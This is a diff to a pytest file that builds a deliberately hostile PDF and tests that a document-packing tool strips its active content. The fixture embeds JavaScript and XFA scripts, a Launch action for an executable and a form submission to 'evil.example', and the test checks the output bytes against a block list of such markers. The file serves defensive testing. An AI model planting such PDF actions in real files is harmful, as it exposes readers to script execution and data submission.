@@ -18,7 +18,7 @@ from pathlib import Path
 
 import pytest
 from pypdf import PdfReader, PdfWriter
-from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
+from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, StreamObject, TextStringObject
 
 from generator.commands.pack import PackRequest, pack
 from generator.core.paper import A4
@@ -59,7 +59,16 @@ def hostile_handout(path: Path) -> None:
         _link(writer, _action("/URI", URI="https://example.org/map")),
         _link(writer, _action("/SubmitForm", F="https://evil.example/collect")),
         _link(writer, _action("/GoTo"), subtype="/FileAttachment"),
+        # The same kinds again as objects of their own, which outlive the key that pointed at them.
+        _link(writer, writer._add_object(_action("/JavaScript", JS="app.alert('annot-indirect')"))),
+        _link(writer, writer._add_object(_action("/Launch", F="calc-indirect.exe"))),
     ])
+    page[NameObject("/AA")][NameObject("/C")] = writer._add_object(
+        _action("/JavaScript", JS="app.alert('page-indirect')"))
+    xfa = StreamObject()
+    xfa.set_data(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>")
+    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)})
     with open(path, "wb") as handle:
         writer.write(handle)
 
@@ -108,6 +117,37 @@ def test_the_envelope_and_the_zip_hold_no_active_content(packed):
         links = [a.get_object()["/A"].get("/URI") for page in reader.pages for a in page.get("/Annots", [])
                  if "/A" in a.get_object()]
         assert "https://example.org/map" in links
+
+
+# In every object of the file, reached or not, compressed or not: what a preflight reading bytes would find.
+STRIPPED = (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/XFA", b"app.alert", b"calc.exe",
+            b"calc-indirect.exe", b"MZ evil", b"xdp:xdp")
+
+
+def _every_object(data: bytes) -> bytes:
+    """The file's bytes, then every object pikepdf finds in its cross-reference
+    table (unreachable ones too, and those inside object streams), streams
+    decoded."""
+    import pikepdf
+    found = [data]
+    with pikepdf.open(BytesIO(data)) as pdf:
+        for obj in pdf.objects:
+            found.append(repr(obj).encode("utf-8", "backslashreplace"))
+            if isinstance(obj, pikepdf.Stream):
+                found.append(obj.read_bytes())
+    return b"\n".join(found)
+
+
+def test_what_is_stripped_is_gone_from_the_bytes(packed, tmp_path):
+    folder, archive = packed
+    hostile_handout(tmp_path / "h.pdf")
+    assert all(mark in _every_object((tmp_path / "h.pdf").read_bytes()) for mark in STRIPPED)
+    with zipfile.ZipFile(archive) as zf:
+        zipped = zf.read("a4/envelopes/01-robin-ash.pdf")
+    for data in ((folder / "envelopes" / "01-robin-ash.pdf").read_bytes(), zipped):
+        everything = _every_object(data)
+        assert [mark for mark in STRIPPED if mark in everything] == []
+        assert b"https://example.org/map" in everything
 
 
 def test_the_manifest_says_what_was_removed(packed):
